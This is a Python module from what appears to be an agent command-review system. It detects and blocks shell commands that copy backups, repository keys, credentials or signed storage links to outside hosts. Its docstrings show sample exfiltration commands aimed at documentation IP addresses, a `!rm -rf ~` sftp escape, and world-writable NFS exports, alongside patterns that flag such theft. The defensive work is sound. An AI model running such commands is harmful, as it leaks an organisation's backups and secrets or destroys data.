"""Backups and storage (restic, borg/borgmatic, rclone, rsync/scp, S3/GCS/Azure Blob, MinIO `mc`, ZFS/btrfs/LVM,
NFS/SMB shares, Velero), from the shell (session 29).

Whose host is read as backups_tables says (an address outside this network, or a domain no other host of the input
shares, is an outsider's). Blocked:

- what a backup holds printed and sent by a network program to an outsider's host: `restic dump`/`cat`, `borg extract
  --stdout`, an object streamed out of a bucket (`aws s3 cp s3://… -` or `/dev/stdout`, `gsutil cp … -`, `gcloud
  storage cp … -`, `gsutil cat`, `rclone cat`, `mc cat`, `az storage blob download` with no `--file`), a ZFS or btrfs
  send stream, a backup repository's key files read by `cat` or `tar`; a repository's key (`borg key export` to the
  standard output, `restic cat masterkey`) sent anywhere; a Velero backup downloaded to a file that is then uploaded;
- the machine's backups, a backup repository's keys or settings or a credential copied by rsync, scp, an sftp batch's
  `put` (a here-document, `printf … |`, `< FILE` or `-b FILE` this input wrote) or lftp's `put`/`mirror -R` to a bare
  public address or a drop service; a whole home, the whole system, a dump or a backup the user made, and records by
  their name where data is kept (`/srv/finance`, `/data/outbound/payroll/`) are held for a person there (blocked to a
  drop service): the address may be the user's own server. A deploy, a project, fixtures, a dataset or a report
  stays allowed, named for a department or not (`/var/www/finance/`, `~/src/payroll/`, `fixtures/customers.csv`);
- what sftp's and lftp's `!` lines (lftp's `| filter`, `source -e`, mirror's `--on-change`) run in the local shell,
  judged as that shell line (as a here-document fed to `sh` is): `sftp host <<< '!rm -rf ~'`;
- a bucket copied by rclone to a remote the command defines at a public address; an rclone remote or an `mc` alias
  created for an outsider's host and then filled (`rclone sync`, `mc mirror`); a ZFS or btrfs stream sent by `mbuffer
  -O` to such an address;
- a backup's destination moved to an outsider (`velero backup-location create --config s3Url=http://203.0.113.9`);
- a signed link to a container or bucket (`az storage … generate-sas`, `aws s3 presign`, `gsutil signurl`, `mc share`)
  sent to an outsider's host;
- an S3 bucket replicated into another AWS account (`put-bucket-replication`; with no `Account` in the rule, a
  destination whose name shares no word with the source's is held for a person); a bucket or container whose name
  says it holds private data opened to anyone (`mc anonymous set public`, an anonymous policy file for `*`, `az
  storage container set-permission --public-access`, `gcloud storage … add-iam-policy-binding --member=allUsers`, its
  public access block lifted); the same on another bucket is held for a person (a website's), as is an anonymous
  policy file the input does not show;
- a share opened to every address with write or root rights (`zfs set sharenfs=rw=@0.0.0.0/0,no_root_squash`,
  `exportfs -o rw,no_root_squash '*:/srv'`; the same written into /etc/exports or a Samba guest share that anyone can
  write: bash/admin.py asks share_opened; `net usershare add … Everyone:F guest_ok=y`, or a guest share of the
  machine's backups, a whole home or the system);
- a key added to a restic repository with its password written in the input (`<(echo …)`, `<(cat <<< …)`, a
  here-string fed to `/dev/stdin` or to restic itself, a file an earlier `echo` filled) or with none
  (`--new-insecure-no-password`): a login the agent knows (a scratch repository the input made is its own);
- a quick tunnel (`cloudflared tunnel --url`) publishing another machine's service to the internet.

Root's storage upkeep under a plain `sudo` (no option that keeps the environment) is not reviewed (root_upkeep, read
by bash/system.py's inspection): a pool scrubbed, a snapshot taken (`zfs snapshot`, `lvcreate -s`, a btrfs snapshot
into a root-only `.snapshots` folder; a `$(date +%F)` only inside the snapshot's own name), a btrfs scrub, borgmatic's
jobs with the system's configuration (an input that writes or names one in the user's home, or sets HOME or
XDG_CONFIG_HOME, keeps the review), a share of another machine of this network mounted `nosuid,nodev` on /mnt/NAME
(no link made in the input), such a mount taken down. Anything else under sudo (every disk or image mounted, installs,
reads of every file as root, `zfs send`, deletes and rollbacks) keeps the review; deletes keep bash/infra.py's
`irreversible`. The copiers (rsync, scp, sftp, lftp, ssh, mbuffer) and the remotes, aliases and backup locations
count only a bare public address (the copiers also a drop service) as outside: offsite providers, a payroll provider's
sftp drop and the user's own servers go by names.
"""
from __future__ import annotations

import ipaddress
import re
from functools import lru_cache

from .. import backups_tables as bt
from .. import paths
from ..hosts import loopback, public_ip, url_host
from ..secret_owner import own_network
from .commands import Cmd, option_value, positionals
from ..per_input import in_input
from .common import NET_SENDERS, input_text, mentions, pipeline_stage


def _far(host: str | None, text: str) -> bool:
    if not host or "$" in host or "`" in host:
        return False
    return public_ip(host) or bt.outsider(host, text)


def _address(host: str | None) -> bool:
    """A public address written out: storage providers (Backblaze, Wasabi, a Hetzner storage box, rsync.net) and the
    user's own servers go by names no input can tell from a stranger's, so for copiers, remotes and backup locations
    only a bare public address counts as outside."""
    return bool(host) and "$" not in host and "`" not in host and public_ip(host)  # type: ignore[operator]


def _pos(cmd: Cmd, with_arg: frozenset = frozenset()) -> list[str | None]:
    return [w.value for w in positionals(cmd.args, with_arg, stop_at_end=True)]


# -- what a backup holds, printed --------------------------------------------------------------------------------
_RESTIC_ARG = frozenset({"-r", "--repo", "--repository-file", "--password-file", "-p", "--password-command",
                         "--cache-dir", "-o", "--option", "--tag", "--host", "-H", "--path", "--target", "-t",
                         "--archive", "--key-hint", "--limit-download", "--limit-upload", "--pack-size"})
_BORG_ARG = frozenset({"--remote-path", "--rsh", "--lock-wait", "--umask", "--exclude", "-e", "--pattern",
                       "--patterns-from", "--exclude-from", "--strip-components", "--sort-by", "--last", "--first"})
_AWS_ARG = frozenset({"--profile", "--region", "--endpoint-url", "--output", "--query", "--storage-class", "--sse",
                      "--sse-kms-key-id", "--expected-size", "--exclude", "--include", "--acl", "--content-type"})


# an object copied "to a file" that is the standard output (`aws s3 cp s3://b/x /dev/stdout`, `gsutil cp gs://b/x -`)
_STDOUT = frozenset({"-", "/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"})
_GS_ARG = frozenset({"-h", "-o", "-u", "-a", "-z", "-j", "-s", "--project", "--billing-project", "--account",
                     "--configuration", "--verbosity", "--impersonate-service-account", "--format", "--flags-file",
                     "--content-type", "--cache-control", "--storage-class", "--encryption-key", "--decryption-keys",
                     "--additional-headers"})
_AZ_ARG = frozenset({"--name", "-n", "--account-name", "--public-access", "--auth-mode", "--account-key",
                     "--connection-string", "--sas-token", "-o", "--output", "--query", "--subscription", "-g",
                     "--resource-group", "-c", "--container-name", "-f", "--file", "--blob-url", "--version-id",
                     "--snapshot", "--start-range", "--end-range", "--max-connections", "--timeout"})


def _printed(c: Cmd) -> str | None:
    """What `c` prints when that is what a backup or a bucket holds."""
    name = c.name
    if name == "restic":
        pos = _pos(c, _RESTIC_ARG)
        if pos[:1] == ["dump"] or pos[:1] == ["cat"] and pos[1:2] not in (["masterkey"], ["key"], ["config"]):
            return f"what the backup holds (`restic {pos[0]}`)"
    elif name == "borg":
        pos = _pos(c, _BORG_ARG)
        if pos[:1] == ["extract"] and "--stdout" in c.values() or pos[:1] == ["export-tar"] and "-" in pos[2:]:
            return f"what the archive holds (`borg {pos[0]}` to the standard output)"
    elif name == "aws":
        pos = _pos(c, _AWS_ARG)
        if pos[:2] == ["s3", "cp"] and len(pos) >= 4 and (pos[2] or "").startswith("s3://") and pos[3] in _STDOUT:
            return f"the object {pos[2]} (`aws s3 cp … {pos[3]}`)"
    elif name in ("gsutil", "rclone", "mc", "gcloud"):
        pos = _pos(c, _GS_ARG)
        if name == "gcloud":
            pos = pos[1:] if pos[:1] == ["storage"] else []
        if pos[:1] == ["cat"] and len(pos) > 1:
            return f"the object {pos[1]} (`{name} {'storage ' if name == 'gcloud' else ''}cat`)"
        if name != "rclone" and pos[:1] == ["cp"] and len(pos) == 3 and "://" in (pos[1] or "") and pos[2] in _STDOUT:
            return f"the object {pos[1]} (`{name} {'storage ' if name == 'gcloud' else ''}cp … {pos[2]}`)"
    elif name == "az":
        pos = _pos(c, _AZ_ARG)
        # (with no `--file`, the blob is written to the standard output)
        if pos[:3] == ["storage", "blob", "download"] and \
                all(w.value in _STDOUT for w in option_value(c.args, "--file", "-f")):
            return "the blob (`az storage blob download` to the standard output)"
    elif name in ("zfs", "btrfs"):
        pos = _pos(c, frozenset({"-i", "-I", "-p", "-c", "-f"}))
        if pos[:1] == ["send"]:
            return f"a copy of the whole file system (`{name} send`)"
    return None


def _key(c: Cmd) -> str | None:
    """What `c` prints when that is a backup repository's key."""
    if c.name == "borg":
        pos = _pos(c, _BORG_ARG)
        if pos[:2] == ["key", "export"] and (len(pos) < 4 or pos[3] in ("-", "/dev/stdout")):
            return "`borg key export` prints the repository's key"
    elif c.name == "restic":
        pos = _pos(c, _RESTIC_ARG)
        if pos[:2] == ["cat", "masterkey"]:
            return "`restic cat masterkey` prints the repository's master key"
    return None


# a signed link: whoever holds it reads (or writes) the container or object without any other login
_MINTS = {"az": lambda p: "generate-sas" in p[:4], "aws": lambda p: p[:2] == ["s3", "presign"],
          "gsutil": lambda p: p[:1] == ["signurl"], "mc": lambda p: p[:1] == ["share"],
          "gcloud": lambda p: p[:2] == ["storage", "sign-url"]}


# (a link used on the storage itself, `curl -T f "https://acct.blob.core.windows.net/c/f?$SAS"`, is an upload)
_STORAGE_HOSTS = (".core.windows.net", ".amazonaws.com", "storage.googleapis.com")


def _minted(c: Cmd, far: list[str]) -> str | None:
    """A signed link to storage whose name says it holds backups or private data (a build's or a report's link is
    shared every day: an issue comment, a partner's import)."""
    check = _MINTS.get(c.name)
    if check is None or not check(_pos(c, _AWS_ARG if c.name == "aws" else frozenset())):
        return None
    if all(h.endswith(_STORAGE_HOSTS) for h in far) or not any(bt.held_data(v) for v in c.values() if v):
        return None
    return f"the signed link `{c.name} …` makes (anyone holding it reads the storage)"


_FEED = re.compile(rb"restic|borg|\bs3\b|gsutil|rclone|\bmc\b|gcloud|zfs|btrfs|generate-sas|presign|signurl|"
                   rb"/var/backups|blob download")


def _backups_read(c: Cmd) -> str | None:
    """`tar czf - /var/backups`, `cat /var/backups/pg/x.dump`, `cat ~/.config/borg/keys/*`: the machine's backup
    folder, or a backup repository's keys or settings, read into a pipeline."""
    for v in c.values():
        if v and v[:1] in ("/", "~") and (n := paths.normalize(v)) and _HELD.match(n):
            return f"the machine's backups ({v})" if n.startswith("/var/backups") else \
                f"a backup repository's keys or settings ({v})"
    return None


# `curl -T F`, `-F f=@F`, `--data-binary @F`: the file a request uploads
_UPLOADED = re.compile(r"^(?:-T|--upload-file)$|^(?:-F|--form|-d|--data|--data-binary|--data-raw)$")


def _sent(a, cmd: Cmd) -> None:
    """A backup's content, its key or a signed link reaching a network program (see the notes)."""
    from .brokers import _feeders, destinations
    from .net import _is_sender, _sends_off

    # (ssh and the copiers reach the user's own hosts as a rule: only an outsider's counts for them)
    own = cmd.name in ("ssh", "scp", "sftp", "rsync")
    if not in_input(_FEED, a.doc.data) or not _is_sender(cmd) or not own and not _sends_off(cmd):
        return
    fed = _feeders(a, cmd)
    text = input_text(a)
    far = [h for h in destinations(cmd) if h != "?" and (_address(h) if own else _far(h, text))]
    if far and cmd.name == "curl":
        args = cmd.args
        for k, w in enumerate(args[:-1]):
            if w.value and _UPLOADED.match(w.value) and (v := (args[k + 1].value or "").split("@", 1)[-1]) and \
                    v[:1] in ("/", "~") and _HELD.match(paths.normalize(v)):
                a.block("exfiltration", f"`curl` uploads {v}, the machine's backups or a backup repository's keys, to "
                                        f"{far[0]}, a host outside the organisation's network; keep backups and their "
                                        "keys in the organisation's own storage", cmd.node)
                return
    for c in fed:
        what = _key(c)
        if what and (far or not own):
            a.block("exfiltration", f"{what}, and `{cmd.name}` sends it off the machine: with it and the password the "
                                    "backups can be read anywhere; keep keys on paper or in the password store",
                    cmd.node)
            return
        if not far:
            continue
        what = _printed(c) or _minted(c, far) or _backups_read(c)
        if what:
            a.block("exfiltration", f"{what} is sent by `{cmd.name}` to {far[0]}, a host outside the organisation's "
                                    "network; keep backups in the organisation's own storage", cmd.node)
            return


def _filled(a, cmd: Cmd) -> None:
    """`restic dump latest /x.sql > /tmp/d`, `borg key export REPO /tmp/k`, `aws s3 cp s3://acme-backups/x /tmp/x`: a
    file filled with a backup's content or a repository's key; its upload to another machine is found by net.py."""
    from .files import written_file
    from .net import note_file

    target, what = written_file(a, cmd.redirects), _printed(cmd) or _key(cmd)
    if cmd.name == "borg":
        pos = _pos(cmd, _BORG_ARG)
        if pos[:2] == ["key", "export"] and len(pos) > 3 and pos[3] not in ("-", "/dev/stdout"):
            target, what = pos[3], "the repository's key (`borg key export`)"
    elif cmd.name in ("aws", "gsutil", "gcloud"):
        pos = _pos(cmd, _AWS_ARG if cmd.name == "aws" else _GS_ARG)
        pair = pos[2:4] if pos[:2] in (["s3", "cp"], ["storage", "cp"]) else \
            pos[1:3] if pos[:1] == ["cp"] and cmd.name == "gsutil" else []
        src, dest = (pair + [None, None])[:2]
        if src and dest and src.startswith(("s3://", "gs://")) and "://" not in dest and dest not in _STDOUT and \
                bt.held_data(src.split("/")[2]):
            target, what = dest, f"the object {src}"
    if target and what and target not in ("-", "/dev/null", "/dev/stdout", "/dev/stderr"):
        note_file(a, target, what, cmd.node)


def _velero(a, cmd: Cmd) -> None:
    from .net import note_file

    pos = _pos(cmd, frozenset({"-o", "--output", "-n", "--namespace", "--kubeconfig", "--kubecontext", "--config",
                               "--provider", "--bucket", "--prefix", "--credential", "--backup-sync-period",
                               "--default-volumes-to-fs-backup", "--access-mode", "--cacert", "--labels",
                               "--validation-frequency"}))
    if pos[:2] == ["backup", "download"] and len(pos) > 2:
        out = option_value(cmd.args, "-o", "--output")
        target = out[0].value if out else f"{pos[2]}-data.tar.gz"
        if target:
            note_file(a, target, f"the Velero backup {pos[2]} (every object and Secret of the namespaces it holds)",
                      cmd.node)
    elif pos[:1] in (["backup-location"], ["snapshot-location"]) and pos[1:2] in (["create"], ["set"]):
        for w in option_value(cmd.args, "--config"):
            for part in (w.value or "").split(","):
                key, _, value = part.partition("=")
                if key.strip() in ("s3Url", "publicUrl", "url", "endpoint", "serviceUrl") and \
                        (host := url_host(value) if "//" in value else value.split(":")[0]) and _address(host):
                    a.block("exfiltration", f"`velero {pos[0]} {pos[1]}` stores the cluster's backups at {host}, "
                                            "storage outside the organisation's network: every backup (with every "
                                            "Secret) goes there; use the organisation's own bucket", cmd.node)
                    return


# -- the organisation's data copied to an outsider ---------------------------------------------------------------
# the machine's backups and a backup repository's keys and settings (the system's other files, a project, a dataset or
# a dump the user made are copied to the user's own servers every day)
_HELD = re.compile(r"^(?:/var/backups|/etc/borgmatic|/etc/restic|(?:~|/root)/\.config/(?:borg|restic))(?:/|$)")
# rsync's options that take the next word (`-P`, `-c`, `-l`, `-o`, `-i`, `-S`, `-F`, `-J` are flags for rsync)
_RSYNC_ARG = frozenset({"-e", "--rsh", "-f", "--filter", "--exclude", "--include", "--exclude-from", "--include-from",
                        "--files-from", "-T", "--temp-dir", "--rsync-path", "--log-file", "--log-file-format",
                        "--password-file", "--partial-dir", "--backup-dir", "--suffix", "--link-dest", "--compare-dest",
                        "--copy-dest", "--chmod", "--chown", "--usermap", "--groupmap", "--port", "--timeout",
                        "--contimeout", "--bwlimit", "--max-size", "--min-size", "--max-delete", "--out-format",
                        "--info", "--debug", "-B", "--block-size", "-M", "--remote-option", "-@", "--modify-window",
                        "--iconv", "--compress-level", "--compress-choice", "--checksum-choice", "--skip-compress",
                        "--sockopts", "--address", "--read-batch", "--write-batch", "--only-write-batch"})
_SCP_ARG = frozenset({"-P", "-i", "-o", "-F", "-J", "-l", "-S", "-c", "-D", "-X"})
# `user@host:path`, `host::module`, `rsync://host/module`
_REMOTE = re.compile(r"^(?:rsync://(?:[\w.%+-]+@)?(\[[0-9a-fA-F:]+\]|[\w.-]+)|"
                     r"(?:[\w.%+-]+@)?(\[[0-9a-fA-F:]+\]|[\w.-]+):(?!//))")


def _held(p: str) -> bool:
    n = paths.normalize(p)
    return _HELD.match(n) is not None or paths.is_secret(n) or paths.held_secret(n)


_ORG_DATA = re.compile(r"^(?:/(?:var/backups|var/lib|srv|mnt|data|backups?|home|root|etc)(?:/|$)|~/)|"
                       r"(?:^|/)[^/]*(?:dump|backup|\.sql|\.bak|\.rdb)[^/]*$", re.I)


def _org_data(p: str) -> bool:
    """What an rclone remote at a bare public address is given: the organisation's folders, dumps, credentials."""
    return _ORG_DATA.search(paths.normalize(p)) is not None or _held(p)


# What a copy to a bare public address or a drop service carries, read from each source's path (a relative one from
# where the input's `cd` or the batch's `lcd` went). The machine's backups, a backup repository's keys or settings and
# credentials are blocked. Left to a person, who knows whether the address is the user's own server: a whole home
# folder or the whole system (a backup of the machine), a dump or a backup the user made (`db.sql.gz`, `./backups`),
# and records by their name where data is kept (`/srv/finance`, `/data/outbound/payroll/`, `~/Documents/hr/`,
# `/tmp/customers.csv`). Code and settings are named for the department they serve everywhere (`~/src/payroll/`,
# `/var/www/finance/`, `/opt/hr/`, `fixtures/customers.csv`, `/etc/nginx/sites-available/finance`): outside the data
# trees a name says nothing, and a deploy, a project, a dataset or a report stays allowed.
_DATA_TREE = re.compile(r"^(?:/(?:srv|data|mnt|media|exports?|shares?|storage|backups?|tmp|var/tmp)|"
                        r"~/(?:Documents|Downloads|Desktop|Shared))(?:/|$)")
_RECORDS_WORD = re.compile(r"(?i)payroll|salar(?:y|ies)|patient|medical|confiden|customer|financ|accounting|"
                           r"employee|personnel|users?[-_]?data|(?:^|[-_.])(?:pii|phi|hr)(?=[-_.]|$)")
# (a table or a database, compressed or not: `customers.csv.gz`; an archive or a document may be anything)
_DATA_FILE = re.compile(r"(?i)\.(?:csv|tsv|xlsx?|ods|parquet|jsonl?|sql|dump|bak|db|sqlite3?)(?:\.|$)")
_DUMP_WORD = re.compile(r"(?i)dump|backup")
# a dump by its kind: `x.dump`, `x.bak`, `dump.rdb`, a compressed SQL script (a plain `schema.sql` is code)
_DUMP_KIND = re.compile(r"(?i)\.(?:dump|bak|rdb)(?:\.|$)|\.sql\.(?:gz|xz|zst|bz2|7z|zip)$")
_ARCHIVE = re.compile(r"(?i)\.(?:zip|gz|tgz|zst|xz|7z|tar|bz2)$")
# a folder named for what it holds and nothing else: `backups`, `dump-2024-06-01` (not `backup-scripts`)
_DUMP_DIR = re.compile(r"(?i)\A[\W\d_]*+(?:backups?|dumps?)[\W\d_]*+\Z")
_WHOLE = {"~": "a whole home folder", "/home": "every home folder", "/Users": "every home folder",
          "/": "the whole system"}


def _carried(p: str) -> tuple[bool, str] | None:
    """(blocked, what) for a file or folder copied to a bare public address or a drop service, else None."""
    if "`" in p:
        return None
    n = paths.normalize(p).rstrip("/") or "/"
    if "$" in n:
        return None
    if _held(n):
        return True, "the machine's backups, a backup repository's keys or a credential"
    whole = _WHOLE.get(n.removesuffix("/*") or "/")
    if whole:
        return False, f"{whole}, with every key and token in it"
    name = n.rsplit("/", 1)[-1]
    data = _DATA_TREE.match(n)
    if data and any(_RECORDS_WORD.search(x) for x in n[data.end():].split("/")) or \
            n.startswith("~/") and n.count("/") == 1 and _DATA_FILE.search(name) and _RECORDS_WORD.search(name):
        return False, "the organisation's records, by their name"
    if _DUMP_KIND.search(name) or _DUMP_DIR.match(name) or \
            _DUMP_WORD.search(name) and (_DATA_FILE.search(name) or _ARCHIVE.search(name)):
        return False, "a dump or a backup"
    return None


def _outside(host: str | None) -> str | None:
    """How a copier's destination is outside the organisation: a bare public address, or a drop service (a tunnel to
    someone's machine, an anonymous file host); else None (the user's own servers and offsite providers go by names)."""
    from ..scraping_tables import stranger_sink

    if not host or "$" in host or "`" in host:
        return None
    if _address(host):
        return f"{host}, a bare public address"
    return f"{host}, a drop service anyone can read" if stranger_sink(host) else None


def _copy_judged(a, cmd: Cmd, shown: str, sources: list[str], host: str | None) -> bool:
    """Blocks (or holds) the copy `shown` of `sources` to `host` as _carried and _outside read them."""
    where = _outside(host)
    if where is None:
        return False
    found = [(c, src) for src in sources if (c := _carried(a.in_cwd(src) or src))]
    if not found:
        return False
    (blocked, what), src = max(found, key=lambda f: f[0][0])
    if blocked or "drop" in where:
        a.block("exfiltration", f"`{shown}` copies {src} ({what}) to {where}; copy the organisation's data only to "
                                "its own servers and storage", cmd.node)
    else:
        a.review("exfiltration", f"`{shown}` copies {src} ({what}) to {where}; a person should confirm the address is "
                                 "the organisation's own server", cmd.node)
    return True


def _copied_out(a, cmd: Cmd) -> None:
    """`rsync -az /var/backups/ sync@198.51.100.7:/data/`, `scp /etc/borgmatic/config.yaml root@203.0.113.9:/tmp/`."""
    # (a word known only in part keeps its text: `/home/$USER/` is a home, `"$SRC"` nothing known)
    pos = [w.value if w.value is not None else w.text.replace('"', "").replace("'", "") for w in positionals(
        cmd.args, _RSYNC_ARG if cmd.name == "rsync" else _SCP_ARG)]
    if len(pos) < 2:
        return
    m = _REMOTE.match(pos[-1])
    if m is None or _REMOTE.match(pos[0]):
        return
    _copy_judged(a, cmd, cmd.name, pos[:-1], (m.group(1) or m.group(2)).strip("[]"))


def _target_host(target: str) -> str:
    """The host an sftp or lftp target names: `sftp://u@h:2222/in`, `u@h:/path`, `u@[2606:4700::1111]:/in`, `h`."""
    target = target.strip("\"'")
    if "://" in target:
        return url_host(target) or ""
    rest = target.rsplit("@", 1)[-1]
    return rest[1:].split("]", 1)[0] if rest[:1] == "[" else rest.split(":", 1)[0]


def _in_folder(local: str, path: str) -> str:
    """`path` read from the folder `local` (an `lcd`'s; "" when none was chosen)."""
    return path if not local or path[:1] in ("/", "~", "$") else local.rstrip("/") + "/" + path


def _shell_escape(a, cmd: Cmd, text: str) -> None:
    """What a `!` line of sftp or lftp (or lftp's `| filter`, `source -e`, `--on-change`) hands to the local shell,
    judged as the shell line it is, as a here-document fed to `sh` is."""
    from .tools import _nested_line

    _nested_line(a, text, cmd.node)


# -- an sftp batch: `printf 'put …' | sftp -b - drop@203.0.113.77`, a here-document, `-b FILE` this input wrote ------
_SFTP_ARG = frozenset({"-B", "-b", "-c", "-D", "-F", "-i", "-J", "-l", "-o", "-P", "-R", "-S", "-X"})
_SFTP_PUTS = frozenset({"put", "mput", "reput"})
_STDIN = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})


def _group_printed(a, cmd: Cmd) -> str | None:
    """`{ echo 'put -r /srv/x'; echo bye; } | sftp …`: what a group of `echo`s and `printf`s before `cmd` prints."""
    from .written import content

    where = pipeline_stage(cmd)
    if where is None or where[1] == 0:
        return None
    before = where[0][where[1] - 1]
    if before.type not in ("compound_statement", "subshell"):
        return None
    inside = [c for d, c in a.ctx.commands if d is a.doc and before.start_byte <= c.node.start_byte < before.end_byte]
    got = [content(a, c) if c.name in ("echo", "printf") else None for c in inside]
    if not got or None in got:
        return None
    return "".join(g[0] if g[0].endswith("\n") else g[0] + "\n" for g in got)  # type: ignore[index]


def _fed_text(a, cmd: Cmd) -> str | None:
    """The literal text `cmd` reads on its standard input: a here-document or here-string, a file this input wrote
    (`< /tmp/b`), or what the stage before it in a pipeline prints (`printf`, `echo`, a group of them, `cat` of a
    here-document or of a file this input wrote)."""
    from .exec import stdin_text
    from .written import content, piped_into, text_written

    fed = stdin_text(a, cmd)
    if fed is not None:
        return fed[0]
    for r in cmd.redirects:
        if r.type == "file_redirect" and r.children and r.children[0].type == "<":
            for d in r.children_by_field_name("destination")[:1]:
                path = a.ev.word(d).value
                got = text_written(a, path) if path else None
                return got[0] if got is not None else None
    before = piped_into(a, cmd)
    if before is None:
        return _group_printed(a, cmd)
    if before.name == "cat" and before.args and before.args[0].value and before.args[0].value[:1] != "-":
        got = text_written(a, before.args[0].value)
    else:
        got = content(a, before)
    return got[0] if got is not None else None


def _batch_text(a, cmd: Cmd) -> str | None:
    """The commands an `sftp` run reads: its `-b` batch file, or its standard input."""
    from .datastores import _printed_within
    from .written import text_written

    batch = option_value(cmd.args, "-b")
    if not batch or batch[-1].value in _STDIN:
        return _fed_text(a, cmd)
    w = batch[-1]
    if w.value:
        got = text_written(a, w.value)
        return got[0] if got is not None else None
    return _printed_within(a, w)


def _sftp(a, cmd: Cmd) -> None:
    """An sftp batch, one command a line: a `!` line runs in the local shell (judged as that shell line); `put`,
    `reput`, `mput` (any case: sftp compares commands without it), each relative path read from the folder the
    `lcd`s chose, judged as an `scp` of the same files to the same host."""
    text = _batch_text(a, cmd)
    if not text:
        return
    local, sent = "", []
    for line in text.split("\n"):
        line = line.strip().lstrip("-@ \t")
        if line[:1] == "!":
            _shell_escape(a, cmd, line[1:])
            continue
        words = [x.strip("\"'") for x in line.split()]
        verb = words[0].lower() if words else ""
        if verb == "lcd" and len(words) > 1:
            local = _in_folder(local, words[1])
        elif verb in _SFTP_PUTS:
            # (`put LOCAL [REMOTE]`: the second path is where it lands)
            files = [x for x in words[1:] if x[:1] != "-"]
            sent += [_in_folder(local, x) for x in (files if verb == "mput" else files[:1])]
    if sent:
        pos = positionals(cmd.args, _SFTP_ARG)
        _copy_judged(a, cmd, "sftp … put", sent, _target_host(pos[0].value or "") if pos else None)


# -- lftp: `lftp -e 'mirror -R /var/backups /in; bye' sftp://203.0.113.77`, `-c`, `-f FILE`, its standard input -----
_LFTP_ARG = frozenset({"-e", "-c", "-f", "-u", "-p", "--user", "--password", "-d", "--rcfile"})
# a piece of lftp's command language (its own grammar, src/parsecmd.cc): blanks, a line continued, the separators,
# a `| filter` (a shell command, to `;`, `&` or the end of the line), a `> file`, a word
_LFTP_TOKEN = re.compile(r"""[ \t]++|\\\n|&&|\|\||[;&\n]|\|[^;&\n]*+|>>?+[ \t]*+[^ \t;&\n]*+|"""
                         r"""(?:"[^"\n]*+"?+|'[^'\n]*+'?+|\\.|[^ \t"';&|>\n\\])++|\\""")
_BLANKS = re.compile(r"[ \t]*+")


def _lftp_commands(text: str) -> list[tuple[str, object]]:
    """lftp's commands in `text`, in order: ("cmd", words) for a command, ("sh", text) for what goes to the local
    shell: a `!` command (to the end of the line, `;` included, as lftp reads it) or a `| filter`."""
    out: list[tuple[str, object]] = []
    words: list[str] = []
    pos, n = 0, len(text)
    while pos < n:
        if not words:
            pos = _BLANKS.match(text, pos).end()  # type: ignore[union-attr]
            if pos >= n:
                break
            if text[pos] in "!#":
                end = text.find("\n", pos)
                end = n if end < 0 else end
                if text[pos] == "!":
                    out.append(("sh", text[pos + 1:end]))
                pos = end
                continue
        m = _LFTP_TOKEN.match(text, pos)
        tok = m.group() if m else text[pos]
        pos = m.end() if m else pos + 1
        if tok[:1] in (" ", "\t") or tok == "\\\n" or tok[:1] == ">":
            continue
        if tok in ("&&", "||", ";", "&", "\n") or tok[:1] == "|":
            if words:
                out.append(("cmd", words))
                words = []
            if tok[:1] == "|" and tok != "||":
                out.append(("sh", tok[1:]))
            continue
        words.append(tok.replace('"', "").replace("'", "").replace("\\", ""))
    if words:
        out.append(("cmd", words))
    return out


# `open`'s options that take the next word (`-e CMD` an lftp command run after connecting)
_OPEN_VALUE = frozenset({"-e", "-u", "-p", "-s", "--execute", "--user", "--password", "--port", "--slot"})
# mirror's options that take the next word (getopt "esi:x:I:X:nrpcRvN:LP:af:F:O:" and the long ones with values);
# `-f FILE` and `-F DIR` (`--file`, `--directory`) name what is mirrored
_MIRROR_SHORT_VALUE = frozenset("ixIXNPfFO")
_MIRROR_LONG_VALUE = frozenset({"--include", "--exclude", "--include-glob", "--exclude-glob", "--include-rx-from",
                                "--exclude-rx-from", "--include-glob-from", "--exclude-glob-from", "--newer-than",
                                "--file", "--directory", "--older-than", "--size-range", "--log", "--script",
                                "--max-errors", "--on-change", "--target-directory", "--recursion",
                                "--loop-interval"})


def _lftp_open(args: list[str]) -> tuple[str, list[str]]:
    """(the site, the `-e` commands) of lftp's `open [OPTS] SITE`."""
    site, run, i = "", [], 0
    while i < len(args):
        v = args[i]
        i += 1
        if v[:1] != "-" or v == "-":
            site = site or v
        elif v in _OPEN_VALUE:
            if v in ("-e", "--execute") and i < len(args):
                run.append(args[i])
            i += 1
        elif v[:2] == "-e" and len(v) > 2:
            run.append(v[2:])
    return site, run


def _mirror_sources(a, cmd: Cmd, args: list[str]) -> list[str]:
    """What `mirror -R` uploads (its first path, or its `-f`/`-F` files), else []; its `--on-change` command is a
    shell line."""
    reverse, given, files, i = False, [], [], 0
    while i < len(args):
        v = args[i]
        i += 1
        if v[:2] == "--":
            key, eq, value = v.partition("=")
            if key == "--reverse":
                reverse = True
            elif key in _MIRROR_LONG_VALUE:
                if not eq:
                    value = args[i] if i < len(args) else ""
                    i += 1
                if key in ("--file", "--directory"):
                    files.append(value)
                elif key == "--on-change":
                    _shell_escape(a, cmd, value)
        elif v[:1] == "-" and len(v) > 1:
            for k, ch in enumerate(v[1:], 1):
                if ch == "R":
                    reverse = True
                elif ch in _MIRROR_SHORT_VALUE:  # (the rest of the word, or the next one)
                    value = v[k + 1:]
                    if not value:
                        value = args[i] if i < len(args) else ""
                        i += 1
                    if ch in "fF":
                        files.append(value)
                    break
        else:
            given.append(v)
    return (files or given[:1]) if reverse else []


def _lftp_uploads(a, cmd: Cmd, text: str, host: str, depth: int = 0) -> list[tuple[str, str, str]]:
    """(shown, path, host) of each upload of the lftp commands `text`, `host` the site connected first; a `!`
    command, a filter and `source -e` are judged as the shell lines they are."""
    out, local = [], ""
    for kind, val in _lftp_commands(text):
        if kind == "sh":
            _shell_escape(a, cmd, val)  # type: ignore[arg-type]
            continue
        verb, args = val[0], val[1:]  # type: ignore[index]
        if verb == "open":
            site, run = _lftp_open(args)
            host = _target_host(site)
            if depth < 2:
                for t in run:
                    out += _lftp_uploads(a, cmd, t, host, depth + 1)
        elif verb == "lcd" and args:
            local = _in_folder(local, args[0])
        elif verb in ("put", "mput", "reput"):
            # (`-O base`, `-o remote`: a value, not a file)
            out += [(f"lftp … {verb}", _in_folder(local, x), host) for k, x in enumerate(args)
                    if x[:1] != "-" and (k == 0 or args[k - 1] not in ("-O", "-o"))]
        elif verb == "mirror":
            out += [("lftp … mirror -R", _in_folder(local, x), host) for x in _mirror_sources(a, cmd, args)]
        elif verb == "source" and args[:1] == ["-e"]:
            _shell_escape(a, cmd, " ".join(args[1:]))
    return out


